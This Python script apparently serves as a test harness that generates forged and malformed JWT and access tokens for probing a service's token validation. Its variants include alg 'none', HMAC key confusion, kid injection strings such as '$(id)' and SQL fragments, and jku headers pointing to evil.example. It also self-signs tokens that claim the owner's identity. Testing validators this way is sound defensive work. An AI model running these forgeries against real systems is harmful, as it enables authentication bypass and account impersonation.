"""Forges tokens: reads what an attacker has from stdin as JSON, writes [name, token, where it is tried] to stdout.

What an attacker has: good tokens of a guest (an ID token for another service, an access token), the published keys, and service
account keys of its own. `where` is `id` (a private service), `access` (an API) or `both`.
"""

import base64
import hashlib
import hmac
import json
import sys
import time

HAVE = json.load(sys.stdin)
NOW = int(time.time())
TOKENS = []


def b64(data):
    if not isinstance(data, bytes):
        data = (data if isinstance(data, str) else json.dumps(data, separators=(",", ":"))).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def der(data, at):
    """Tag, content and end of the element at `at`."""
    tag, length, at = data[at], data[at + 1], at + 2
    if length & 0x80:
        count = length & 0x7F
        length, at = int.from_bytes(data[at : at + count], "big"), at + count
    return tag, data[at : at + length], at + length


def elements(data):
    at, found = 0, []
    while at < len(data):
        tag, content, at = der(data, at)
        found.append((tag, content))
    return found


class Rsa:
    """RS256 by a PKCS #8 key in PEM: slow, and all that a forger needs."""

    def __init__(self, pem):
        lines = [line for line in pem.split("\n") if line and not line.startswith("-")]
        info = elements(der(base64.b64decode("".join(lines)), 0)[1])
        key = [int.from_bytes(content, "big") for _, content in elements(der(info[2][1], 0)[1])]
        self.n, self.e, self.d = key[1], key[2], key[3]

    def sign(self, message):
        size = (self.n.bit_length() + 7) // 8
        info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(message).digest()
        padded = b"\0\1" + b"\xff" * (size - len(info) - 3) + b"\0" + info
        return pow(int.from_bytes(padded, "big"), self.d, self.n).to_bytes(size, "big")

    def jwk(self):
        return {"kty": "RSA", "alg": "RS256", "use": "sig", "kid": "mine", "n": b64(self.n.to_bytes(256, "big")), "e": "AQAB"}


def token(header, claims, sign):
    signed = f"{b64(header)}.{b64(claims)}"
    return f"{signed}.{b64(sign(signed.encode()))}"


def by_hmac(secret, digest=hashlib.sha256):
    secret = secret.encode() if isinstance(secret, str) else secret
    return lambda message: hmac.new(secret, message, digest).digest()


def nothing(_):
    return b""


def add(name, text, where="both"):
    TOKENS.append([name, text, where])


guest_id, guest_access = HAVE["guest_id"], HAVE["guest_access"]
key = json.loads(HAVE["key"])
rsa = Rsa(key["private_key"])
mine = rsa.sign
header = json.loads(unb64(guest_id.split(".")[0]))
kid = header["kid"]
# What the owner's token would say.
owner = json.loads(unb64(HAVE["owner_claims"])) | {"aud": HAVE["audience"], "azp": HAVE["audience"]}
access_header = {"alg": "RS256", "kid": kid, "typ": "at+jwt"}
access = {"iss": owner["iss"], "sub": owner["sub"], "email": owner["email"], "kind": "user", "scope": "openid", "iat": NOW, "exp": NOW + 3600}


def both(name, change, sign, claims=lambda claims: claims):
    """The same forgery as an ID token and as an access token."""
    add(f"{name} (ID)", token({**header, **change}, claims(dict(owner)), sign), "id")
    add(f"{name} (access)", "ya29." + token({**access_header, **change}, claims(dict(access)), sign), "access")


# Algorithms.
for spelling in ("none", "None", "NONE", "nOnE", "none ", " none", "", "null"):
    both(f"alg {spelling!r}", {"alg": spelling}, nothing)
for spelling in (None, 0, [], ["none"], {"a": 1}):
    both(f"alg {spelling!r}", {"alg": spelling}, nothing)
for name in ("HS256", "HS384", "HS512"):
    digest = getattr(hashlib, "sha" + name[2:])
    for what, secret in (("certificate", HAVE["certificate"]), ("JWKS", HAVE["jwks"]), ("modulus", HAVE["modulus"]), ("nothing", ""), ("kid", kid)):
        both(f"{name} by the {what}", {"alg": name}, by_hmac(secret, digest))
for secret in ("secret", "password", "tanebi", "your-256-bit-secret", HAVE["audience"], "developer@tanebi.local"):
    both(f"HS256 by {secret!r}", {"alg": "HS256"}, by_hmac(secret))
both("RS256 said, HS256 by the JWKS done", {}, by_hmac(HAVE["jwks"]))
for name in ("RS384", "RS512", "PS256", "ES256", "EdDSA", "rs256"):
    both(f"alg {name} by another key", {"alg": name}, mine)

# Keys.
both("another's key under our kid", {}, mine)
for odd in ("", "0", "mine", "../../../../dev/null", "/dev/null", "' OR '1'='1", "' UNION SELECT 'x", "|id", "$(id)", "a\0b", "\n", "%00", kid + " ", kid.upper(), "x" * 4000):
    both(f"kid {odd[:20]!r}", {"kid": odd}, by_hmac("") if "null" in odd else mine)
for odd in (None, 0, [], [kid], {}):
    both(f"kid {odd!r}", {"kid": odd}, mine)
both("kid of an account's key", {"kid": key["private_key_id"]}, mine)
jwk = rsa.jwk()
certificate = HAVE["certificate"]
for name, value in (("jwk", jwk), ("jku", "https://evil.example/jwks"), ("jku", HAVE["jwks_uri"]), ("x5u", "https://evil.example/x"), ("x5c", [certificate]), ("x5t", "x"), ("crit", ["exp"]), ("zip", "DEF"), ("b64", False), ("cty", "JWT"), ("enc", "A256GCM"), ("typ", "JWS")):
    both(f"{name} in the header", {name: value}, mine)

# Signatures.
head, payload, signature = guest_id.split(".")
forged = b64(owner)
add("the owner's claims with a guest's signature", f"{head}.{forged}.{signature}", "id")
for name, text in (
    ("cut by one", guest_id[:-1]),
    ("cut by half", guest_id[: len(guest_id) // 2]),
    ("extended", guest_id + "A"),
    ("padded", guest_id + "=="),
    ("a fourth part", guest_id + "." + signature),
    ("no signature", f"{head}.{payload}."),
    ("two parts", f"{head}.{payload}"),
    ("one part", head),
    ("no header", f".{payload}.{signature}"),
    ("no claims", f"{head}..{signature}"),
    ("reversed", f"{signature}.{payload}.{head}"),
    ("twice", guest_id + guest_id),
    ("dots", ".."),
    ("four dots", "...."),
    ("a word", "nonsense"),
    ("no base64", "!!!.???.***"),
    ("standard base64", f"{head}.{payload}.{signature[:-4]}+/+/"),
    ("zeros for a signature", f"{head}.{payload}.{b64(bytes(256))}"),
    ("ones for a signature", f"{head}.{payload}.{b64(bytes([255]) * 256)}"),
    ("20 KB", f"{head}.{'A' * 20000}.{signature}"),
    ("50 KB", "A" * 50000),
    ("deep claims", f"{head}.{b64('[' * 5000)}.{signature}"),
    ("a quoted one", f'"{guest_id}"'),
    ("with its scheme", f"Bearer {guest_id}"),
    ("a list of two", f"{guest_id},{guest_id}"),
):
    add(name, text)
    add(f"{name}, as an access token", "ya29." + text, "access")
add("an access token cut by one", guest_access[:-1])
add("an access token extended", guest_access + "A")
add("an access token without its prefix", guest_access.removeprefix("ya29."))
add("an access token with the prefix twice", "ya29." + guest_access)

# The other kind, and another's.
add("an access token for an ID token", guest_access, "id")
add("an ID token for an access token", guest_id, "access")
add("an ID token with the prefix", "ya29." + guest_id)
add("an ID token for another service", HAVE["elsewhere"], "id")
for name, text in HAVE["audiences"].items():
    add(f"an ID token for {name}", text, "id")
add("a refresh token", HAVE["refresh"])
add("the operator's secret", HAVE["secret"])

# What an account signs for itself with a key that is good. An API takes such a token when all of it is right.
email = key["client_email"]
good = {"iss": email, "sub": email, "aud": "https://run.googleapis.com/", "iat": NOW, "exp": NOW + 3600}
signed = {"alg": "RS256", "typ": "JWT", "kid": key["private_key_id"]}
for name, change in {
    "expired": {"iat": NOW - 7200, "exp": NOW - 3600},
    "expired two minutes ago": {"iat": NOW - 3720, "exp": NOW - 120},
    "not yet valid": {"iat": NOW + 600, "exp": NOW + 4200},
    "nbf in the future": {"nbf": NOW + 600},
    "longer than an hour": {"exp": NOW + 7200},
    "without end": {"exp": 1 << 62},
    "ended before it began": {"exp": NOW - 1},
    "exp as text": {"exp": str(NOW + 3600)},
    "exp null": {"exp": None},
    "for another's API": {"aud": "https://evil.example/"},
    "for the token endpoint": {"aud": "https://oauth2.googleapis.com/token"},
    "for a list": {"aud": ["https://run.googleapis.com/"]},
    "for nobody": {"aud": None},
    "in the name of the owner": {"sub": owner["email"]},
    "issued by the owner": {"iss": owner["email"], "sub": owner["email"]},
    "issued by Google": {"iss": "https://accounts.google.com"},
    "for an ID token": {"target_audience": HAVE["audience"]},
}.items():
    add(f"self-signed, {name}", token(signed, {**good, **change}, mine), "access")
add("self-signed, as an ID token", token(signed, {**good, "aud": HAVE["audience"]}, mine), "id")
add("self-signed, claims of the owner", token(signed, owner, mine))
add("self-signed, claims twice", token(signed, '{"iss":"' + owner["email"] + '",' + json.dumps(good)[1:], mine), "access")
add("self-signed, header twice", token('{"alg":"none",' + json.dumps(signed)[1:], good, mine), "access")
add("self-signed, another account's key id", token({**signed, "kid": json.loads(HAVE["other_key"])["private_key_id"]}, good, mine), "access")
add("self-signed, another account's name", token(signed, {**good, "iss": json.loads(HAVE["other_key"])["client_email"], "sub": json.loads(HAVE["other_key"])["client_email"]}, mine), "access")

# What the account may rightly send: to an API with one audience or a scope, and to the token endpoint for tokens of both kinds.
endpoint = {**good, "aud": "https://oauth2.googleapis.com/token"}
right = {
    "audience": token(signed, good, mine),
    "scope": token(signed, {**{name: value for name, value in good.items() if name != "aud"}, "scope": "https://www.googleapis.com/auth/cloud-platform"}, mine),
    "for_access": token(signed, {**endpoint, "scope": "https://www.googleapis.com/auth/cloud-platform"}, mine),
    "for_id": token(signed, {**endpoint, "target_audience": HAVE["audience"]}, mine),
}
json.dump({"forged": TOKENS, "good": right["audience"], "right": right}, sys.stdout)
